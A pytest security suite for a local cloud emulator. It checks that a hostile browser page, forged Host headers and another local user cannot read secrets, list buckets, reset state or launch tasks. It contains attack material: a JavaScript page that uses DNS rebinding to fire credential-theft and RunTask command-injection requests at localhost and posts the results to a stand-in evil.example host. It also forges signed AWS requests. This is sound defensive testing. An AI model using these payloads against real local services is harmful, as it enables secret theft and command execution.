"""A page in a browser of this machine, and another user of it: neither gets anything out of a cloud that runs."""

from __future__ import annotations

import http.client
import json
import os
import shutil
import socket
import stat
import subprocess
import threading
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from local.cloud import LocalCloud
from local.lambda_.pool import FunctionPool
from local.lambda_.runtime_api import RuntimeApi
from tests.local.clouds import SMALL

pytestmark = [pytest.mark.local]

SECRET = "sk-nobody-reads-this"
NOBODY = 65534
CHROMIUM = next(
    (path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), ""
)


@dataclass(frozen=True)
class Target:
    """A cloud, its task definition's cluster, and what a successful attack would leave behind."""

    cloud: LocalCloud
    port: int
    state: Path
    cluster: str
    definition: str
    ran: Path

    def attacks(self) -> list[tuple[str, str, dict[str, str], str]]:
        """Requests that gave everything away while the cloud asked for no secret: verb, path, headers, body."""

        def signed(service: str, target: str) -> dict[str, str]:
            scope = f"local/20260101/eu-west-1/{service}/aws4_request"
            credential = f"AWS4-HMAC-SHA256 Credential={scope}, SignedHeaders=host, Signature={'0' * 64}"
            return {"X-Amz-Target": target, "Authorization": credential, "Content-Type": "application/x-amz-json-1.1"}

        command = {"name": "agent", "command": ["sh", "-c", f"id > {self.ran}"]}
        task = {
            "cluster": self.cluster,
            "taskDefinition": self.definition,
            "launchType": "FARGATE",
            "networkConfiguration": {"awsvpcConfiguration": {"subnets": ["subnet-1"]}},
            "overrides": {"containerOverrides": [command]},
        }
        run = "AmazonEC2ContainerServiceV20141113.RunTask"
        return [
            ("POST", "/", signed("ecs", run), json.dumps(task)),
            ("POST", "/", {"X-Amz-Target": run}, json.dumps(task)),
            ("POST", "/", signed("secretsmanager", "secretsmanager.GetSecretValue"), '{"SecretId": "key"}'),
            ("GET", "/small-uploads?list-type=2", signed("s3", ""), ""),
            ("GET", "/small-uploads?list-type=2", {}, ""),
            ("GET", "/moto-api/data.json", {}, ""),
            ("POST", "/moto-api/reset", {}, ""),
        ]


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    folder = tmp_path_factory.mktemp("outsiders")
    with LocalCloud(program=SMALL, privileges=True, state=folder / "state") as cloud:
        cloud.client("secretsmanager").create_secret(Name="key", SecretString=SECRET)
        cloud.client("s3").put_object(Bucket="small-uploads", Key="one", Body=b"private source")
        ecs = cloud.client("ecs")
        yield Target(
            cloud,
            int(cloud.endpoint_url.rpartition(":")[2]),
            folder / "state",
            ecs.list_clusters()["clusterArns"][0],
            ecs.list_task_definitions()["taskDefinitionArns"][0],
            folder / "ran",
        )


PAGE = """<!doctype html><title>evil</title><script>
const attacks = ATTACKS, said = [];
(async () => {
  for (const name of ["127.0.0.1", "localhost", "rebound.example"])
  for (const [method, path, headers, body] of attacks) {
    for (const mode of ["cors", "no-cors"]) {
      try {
        const asked = {method, mode, headers: mode === "cors" ? headers : {}, body: body || undefined};
        const answer = await fetch(`http://${name}:PORT${path}`, asked);
        said.push([name, mode, path, answer.type, answer.status, await answer.text()]);
      } catch (error) { said.push([name, mode, path, "error", 0, String(error)]); }
    }
  }
  await fetch("/said", {method: "POST", body: JSON.stringify(said)});
})();
</script>"""


class Evil:
    """A server with a page that attacks, and what the page has got."""

    def __init__(self, page: str) -> None:
        attempts: list[Any] = []
        done = threading.Event()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode())

            def do_POST(self) -> None:
                attempts.extend(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.send_response(204)
                self.end_headers()
                done.set()

            def log_message(self, *_: object) -> None:
                return

        self.attempts, self.done = attempts, done
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_port
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.mark.skipif(not CHROMIUM, reason="no Chromium here: `apt-get install chromium` and run this test again")
@pytest.mark.timeout(300)
def test_a_page_of_another_origin_gets_nothing_and_runs_nothing(target: Target, tmp_path: Path) -> None:
    page = PAGE.replace("ATTACKS", json.dumps(target.attacks())).replace("PORT", str(target.port))
    evil = Evil(page)
    options = (
        "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking"
        " --disable-component-update --disable-sync --disable-features=LocalNetworkAccessChecks,"
        "BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessRespectPreflightResults"
    )
    browser = subprocess.Popen(
        [
            CHROMIUM,
            *options.split(),
            f"--user-data-dir={tmp_path / 'profile'}",
            # DNS rebinding: names of the attacker's that point at this computer.
            "--host-resolver-rules=MAP evil.example 127.0.0.1,MAP rebound.example 127.0.0.1",
            f"http://evil.example:{evil.port}/",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        assert evil.done.wait(200), "the page did not come to its end"
    finally:
        os.killpg(browser.pid, 9)
        browser.wait()
        evil.close()
    assert len(evil.attempts) == 3 * 2 * len(target.attacks())
    read = [attempt for attempt in evil.attempts if attempt[3] not in {"error", "opaque"}]
    assert read == []  # no answer, not even a refusal, is a page's to read
    assert not target.ran.exists()
    assert target.cloud.client("ecs").list_tasks(cluster=target.cluster)["taskArns"] == []
    assert target.cloud.client("s3").get_object(Bucket="small-uploads", Key="one")["Body"].read() == b"private source"


@pytest.mark.parametrize("host", ["attacker.example", "attacker.example:{port}", "127.0.0.1", "[::1]:{port}"])
def test_a_forged_host_gets_a_refusal(target: Target, host: str) -> None:
    for verb, path, headers, body in target.attacks():
        status, said = asked(target.port, verb, path, {**headers, "Host": host.format(port=target.port)}, body)
        assert status == 403
        assert SECRET.encode() not in said


def asked(port: int, verb: str, path: str, headers: Mapping[str, str], body: str) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.request(verb, path, body or None, dict(headers))
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()


def as_nobody(work: Callable[[], Any]) -> Any:
    """What the work comes to when another user of this computer does it; `work` returns something that is JSON."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.setgroups([])
            os.setgid(NOBODY)
            os.setuid(NOBODY)
            os.write(writing, json.dumps(work()).encode())
        except BaseException as problem:  # noqa: BLE001  the test gets it
            os.write(writing, json.dumps(f"{type(problem).__name__}: {problem}").encode())
        finally:
            os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as said:
        written = said.read()
    os.waitpid(child, 0)
    return json.loads(written)


another_user = pytest.mark.skipif(
    os.geteuid() != 0, reason="only root can become another user: run this test as root, as in a container"
)


@another_user
def test_another_user_gets_nothing_from_the_server(target: Target) -> None:
    attacks = target.attacks()

    def work() -> list[tuple[int, str]]:
        return [(status, said.decode()) for status, said in (asked(target.port, *attack) for attack in attacks)]

    answers = as_nobody(work)

    assert [status for status, _ in answers] == [403] * len(attacks)
    assert not [said for _, said in answers if SECRET in said]
    assert not target.ran.exists()


@another_user
def test_another_user_reads_nothing_of_what_is_kept(target: Target) -> None:
    for folder in target.state.resolve().parents:  # pytest's own folders are shut already: not what is looked at here
        if folder.is_relative_to("/tmp") and folder != Path("/tmp"):
            folder.chmod(folder.stat().st_mode | stat.S_IXOTH)
    places = [target.state, target.state / "state.sqlite3", target.state / "state.sqlite3-wal", target.cloud.workdir]

    def opened(path: Path) -> str:
        try:
            return f"opened {sorted(path.iterdir()) if path.is_dir() else path.read_bytes()[:9]!r}"
        except PermissionError:
            return "no permission"

    assert as_nobody(lambda: [opened(path) for path in places]) == ["no permission"] * len(places)


@another_user
def test_another_user_cannot_take_a_workers_place() -> None:
    """A port of the Runtime API: work is given out there, and answers are taken."""
    heard: list[Any] = []
    api = RuntimeApi(heard.append)
    port = int(api.address.partition("/")[0].rpartition(":")[2])

    def work() -> list[int]:
        paths = ("invocation/next", "init/error", f"invocation/{'0' * 8}-0000-0000-0000-{'0' * 12}/response")
        verbs = ("GET", "POST", "POST")
        return [
            asked(port, verb, f"/2018-06-01/runtime/{path}", {}, "")[0] for verb, path in zip(verbs, paths, strict=True)
        ]

    try:
        assert as_nobody(work) == [403, 403, 403]
    finally:
        api.close()
    assert heard == []


def test_whoever_connects_and_says_nothing_does_not_keep_the_worker_away(tmp_path: Path) -> None:
    from tests.local.test_functions import function

    with FunctionPool(tmp_path, {}, workers=1) as pool:
        silent: list[socket.socket] = []
        original = RuntimeApi.__post_init__

        def intruded(api: RuntimeApi) -> None:
            original(api)
            silent.append(socket.create_connection(api._listener.getsockname()))

        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(RuntimeApi, "__post_init__", intruded)
            pool.register(function("greet", source="def greet(event, context):\n    return 'done'\n"))
            assert pool.invoke("greet", b"{}").payload == b'"done"'
        for one in silent:
            one.close()
